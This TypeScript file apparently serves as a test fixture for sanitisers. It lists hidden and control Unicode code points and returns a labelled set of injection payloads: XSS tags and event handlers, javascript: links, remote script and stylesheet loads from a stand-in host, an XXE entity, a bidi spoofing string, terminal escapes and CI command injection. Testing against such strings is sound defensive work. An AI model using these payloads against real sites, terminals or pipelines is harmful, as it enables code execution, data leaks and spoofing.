const range = (from: number, to: number): number[] =>
  Array.from({ length: to - from + 1 }, (_, index) => from + index);

/** Every character that a terminal or page acts upon or hides, listed by number and not by the property that the code uses. */
export const hostile = [
  ...range(0x00, 0x08),
  ...range(0x0b, 0x1f),
  ...range(0x7f, 0x9f),
  ...[0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180e, 0x3164, 0xfeff, 0xffa0],
  ...[
    ...range(0x200b, 0x200f),
    ...range(0x2028, 0x202e),
    ...range(0x2060, 0x206f),
    ...range(0xfff9, 0xfffb),
  ],
  ...[...range(0xe0000, 0xe007f), ...range(0xe0100, 0xe01ef), ...range(0x1d173, 0x1d17a)],
  ...[0xd800, 0xdbff, 0xdc00, 0xdfff],
];
const isHostile = new Set(hostile);

/** Those of a text, by their numbers. */
export const hostileIn = (text: string): string[] =>
  Array.from(text, (character) => character.codePointAt(0) ?? 0)
    .filter((code) => isHostile.has(code))
    .map((code) => code.toString(16));

/**
 * What a server writes to be run, loaded, believed or not seen, by what it tries. `stranger` is an address that nothing may ask. Each is at most 60 letters
 * behind its mark, the most that a message quotes.
 */
export const attacks = (stranger: string): Record<string, string> => ({
  script: '<script>globalThis.ran=1</script>',
  'script elsewhere': `<script src=${stranger}/script></script>`,
  'end of a script': '</SCRIPT ><script>globalThis.ran=1</script>',
  'end of anything': '--!>]]></pre></title></textarea></style>',
  'start of a comment': '<!--<script>',
  picture: `<img src=${stranger}/img onerror=globalThis.ran=1>`,
  drawing: '<svg/onload=globalThis.ran=1>',
  frame: '<iframe srcdoc="<script>parent.ran=1</script>">',
  'frame by address': '<iframe src=javascript:parent.ran=1>',
  object: `<object data=${stranger}/o></object>`,
  refresh: `<meta http-equiv=refresh content="0;url=${stranger}/m">`,
  base: `<base href=${stranger}/>`,
  focus: '<input autofocus onfocus=globalThis.ran=1>',
  toggle: '<details open ontoggle=globalThis.ran=1>',
  attribute: '" autofocus onfocus="globalThis.ran=1" x="',
  'quiet attribute': "' onmouseover='globalThis.ran=1' x='",
  style: `<style>@import "${stranger}/css";*{display:none}</style>`,
  'end of a rule': `}*{background:url(${stranger}/bg);display:none}`,
  'style sheet': `<link rel=stylesheet href=${stranger}/sheet>`,
  link: '<a href=javascript:globalThis.ran=1>press</a>',
  'link of Markdown': '[press](javascript:globalThis.ran=1)',
  'picture of Markdown': `![p](${stranger}/md) <${stranger}/auto>`,
  'bare address': `${stranger}/bare www.evil.example @someone`,
  'reference of Markdown': `[p]: ${stranger}/ref`,
  table: '| a | b |\n|---|---|\n| `c` | ~~~ |',
  template: `$${'{globalThis.ran=1}'}{{constructor("globalThis.ran=1")()}}`,
  document: `<!DOCTYPE a [<!ENTITY x SYSTEM "${stranger}/x">]>&x;`,
  'style of XML': `<?xml-stylesheet href="${stranger}/xsl"?>`,
  'letters turned around': 'safe\u202egnp.exe\u2066x\u2067y\u061c\u200fz',
  'letters that are not seen': 'a\u200bb\u00adc\ufeffd\u2060e\u{e0041}\u{e0102}\u3164f',
  'line that ends': 'a\u2028b\u2029c\u0085d',
  'command of a terminal': '\u001b[2J\u001b]0;x\u0007\u009b31m\b\b',
  'command of a runner': '\n::error::x ##[error]x ##vso[task.complete]',
  'nothing at all': '\0<scr\0ipt>globalThis.ran=1</scr\0ipt>',
});
